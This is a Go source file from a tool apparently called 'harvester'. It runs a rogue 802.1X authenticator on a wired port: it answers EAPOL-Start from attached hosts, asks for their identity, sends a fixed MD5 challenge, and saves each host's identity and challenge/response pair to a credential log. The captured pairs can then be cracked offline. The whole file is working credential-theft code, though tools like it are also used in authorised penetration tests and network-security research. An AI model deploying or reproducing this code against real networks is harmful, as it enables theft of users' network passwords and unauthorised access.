// Package eap emulates an 802.1X authenticator on the wired link to solicit
// an EAP-MD5 challenge/response from the attached host.
package eap

import (
	"bytes"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/gopacket/layers"
	"github.com/rs/zerolog"

	"harvester/internal/dispatch"
	"harvester/internal/harvestlog"
	"harvester/internal/models"
	"harvester/internal/ports"
	"harvester/internal/wire"
)

// UnknownIdentity stands in for the identity when a response arrives
// without a matching identity exchange.
const UnknownIdentity = "Unknown(LastSeen)"

// Phase is the position of the tracked exchange.
type Phase int

const (
	PhaseIdle Phase = iota
	PhaseAwaitingIdentity
	PhaseAwaitingChallengeResponse
)

func (p Phase) String() string {
	switch p {
	case PhaseAwaitingIdentity:
		return "awaiting-identity"
	case PhaseAwaitingChallengeResponse:
		return "awaiting-challenge-response"
	default:
		return "idle"
	}
}

// exchange is the single tracked authentication. A new Start or identity
// response overwrites whatever was there.
type exchange struct {
	peer     [6]byte
	lastID   uint8
	identity string
	phase    Phase
}

// Config holds the authenticator's fixed values.
type Config struct {
	SourceMAC [6]byte
	Challenge [16]byte
	LogName   string
}

// DefaultConfig uses the fixed sender address and challenge.
func DefaultConfig() Config {
	return Config{
		SourceMAC: DefaultAuthenticatorMAC,
		Challenge: DefaultChallenge,
		LogName:   harvestlog.CredentialLog,
	}
}

// Engine reacts to EAPOL frames delivered by the classifier.
type Engine struct {
	link       ports.WiredLink
	classifier *dispatch.Classifier
	sink       ports.Sink
	log        zerolog.Logger
	now        func() time.Time

	mu      sync.Mutex
	cfg     Config
	running bool
	ex      exchange
	creds   []models.CapturedCredential
	tx      [minFrameLen]byte

	dropped atomic.Uint64
	failed  atomic.Uint64
}

// New wires an engine to the wired link, classifier and sink.
func New(link ports.WiredLink, classifier *dispatch.Classifier, sink ports.Sink, logger zerolog.Logger, cfg Config) *Engine {
	if cfg.LogName == "" {
		cfg.LogName = harvestlog.CredentialLog
	}
	return &Engine{
		link:       link,
		classifier: classifier,
		sink:       sink,
		log:        logger,
		now:        time.Now,
		cfg:        cfg,
	}
}

func (e *Engine) Name() string { return "eap" }

// Configure replaces the authenticator values. Ignored while running.
func (e *Engine) Configure(cfg Config) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.running {
		return
	}
	if cfg.LogName == "" {
		cfg.LogName = harvestlog.CredentialLog
	}
	e.cfg = cfg
}

// Start installs the engine as the wired frame handler.
func (e *Engine) Start() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.running {
		return nil
	}
	e.log.Info().Str("source", wire.MAC(e.cfg.SourceMAC[:])).Msg("starting rogue authenticator")
	e.ex = exchange{}
	e.classifier.SetWiredHandler(e)
	e.link.SetFrameHandler(e.classifier.Handle)
	e.running = true
	return nil
}

// Stop removes the frame handler and clears captured credentials.
func (e *Engine) Stop() {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.running {
		return
	}
	e.running = false
	e.link.SetFrameHandler(nil)
	e.classifier.SetWiredHandler(nil)
	e.creds = nil
	e.ex = exchange{}
	e.log.Info().Msg("rogue authenticator stopped")
}

func (e *Engine) IsRunning() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.running
}

// Credentials returns a copy of the credentials captured since Start.
func (e *Engine) Credentials() []models.CapturedCredential {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]models.CapturedCredential, len(e.creds))
	copy(out, e.creds)
	return out
}

// CapturedCount returns the number of captured credentials.
func (e *Engine) CapturedCount() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return len(e.creds)
}

// Phase returns the phase of the tracked exchange.
func (e *Engine) Phase() Phase {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.ex.phase
}

// Dropped returns how many frames were ignored as short or unexpected.
func (e *Engine) Dropped() uint64 { return e.dropped.Load() }

// TransmitFailures returns how many injected frames the link refused.
func (e *Engine) TransmitFailures() uint64 { return e.failed.Load() }

// OnFrame advances the exchange for one received Ethernet frame.
func (e *Engine) OnFrame(buf []byte) {
	if len(buf) < minEAPOLFrame {
		e.dropped.Add(1)
		return
	}
	et, _ := wire.Uint16(buf, offEtherType)
	if layers.EthernetType(et) != layers.EthernetTypeEAPOL {
		e.dropped.Add(1)
		return
	}

	var peer [6]byte
	copy(peer[:], buf[offSrc:offSrc+6])

	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.running {
		return
	}

	switch layers.EAPOLType(buf[offEAPOLType]) {
	case layers.EAPOLTypeStart:
		e.onStart(peer)
	case layers.EAPOLTypeEAP:
		e.onEAP(peer, buf)
	default:
		e.dropped.Add(1)
	}
}

func (e *Engine) onStart(peer [6]byte) {
	e.log.Info().Str("peer", wire.MAC(peer[:])).Msg("EAPOL-Start, sending identity request")
	e.ex = exchange{peer: peer, lastID: 1, phase: PhaseAwaitingIdentity}
	e.transmit(buildIdentityRequest(&e.tx, peer, e.cfg.SourceMAC, 1))
}

func (e *Engine) onEAP(peer [6]byte, buf []byte) {
	if len(buf) < minEAPFrame {
		e.dropped.Add(1)
		return
	}
	code := layers.EAPCode(buf[offEAPCode])
	id := buf[offEAPID]
	typ := layers.EAPType(buf[offEAPType])

	if code != layers.EAPCodeResponse {
		e.dropped.Add(1)
		return
	}
	switch typ {
	case layers.EAPTypeIdentity:
		e.onIdentity(peer, id, buf[offEAPData:])
	case typeMD5Challenge:
		e.onMD5Response(peer, buf)
	default:
		e.dropped.Add(1)
	}
}

func (e *Engine) onIdentity(peer [6]byte, id uint8, data []byte) {
	if i := bytes.IndexByte(data, 0); i >= 0 {
		data = data[:i]
	}
	identity := string(data)
	next := id + 1

	e.log.Info().Str("peer", wire.MAC(peer[:])).Str("identity", identity).Msg("identity captured, sending MD5 challenge")
	e.ex = exchange{peer: peer, lastID: next, identity: identity, phase: PhaseAwaitingChallengeResponse}
	e.transmit(buildMD5Challenge(&e.tx, peer, e.cfg.SourceMAC, next, e.cfg.Challenge))
}

func (e *Engine) onMD5Response(peer [6]byte, buf []byte) {
	size, ok := wire.Uint8(buf, offMD5Size)
	if !ok || size != md5ValueLen {
		e.dropped.Add(1)
		return
	}
	value, ok := wire.Slice(buf, offMD5Value, md5ValueLen)
	if !ok {
		e.dropped.Add(1)
		return
	}

	identity := UnknownIdentity
	if e.ex.phase == PhaseAwaitingChallengeResponse && e.ex.peer == peer && e.ex.identity != "" {
		identity = e.ex.identity
	}
	cred := models.CapturedCredential{
		HardwareAddr: wire.MAC(peer[:]),
		Identity:     identity,
		Challenge:    wire.Hex(e.cfg.Challenge[:]),
		Response:     wire.Hex(value),
		CapturedAt:   e.now(),
	}
	e.ex = exchange{}
	e.creds = append(e.creds, cred)

	e.log.Info().Str("peer", cred.HardwareAddr).Str("identity", identity).Str("response", cred.Response).Msg("captured EAP-MD5 response")
	if !e.sink.Append(e.cfg.LogName, []byte(cred.Line())) {
		e.log.Warn().Str("log", e.cfg.LogName).Msg("credential not persisted")
	}
}

func (e *Engine) transmit(frame []byte) {
	if !e.link.Transmit(frame) {
		e.failed.Add(1)
		e.log.Warn().Msg("wired link not ready, frame not sent")
	}
}
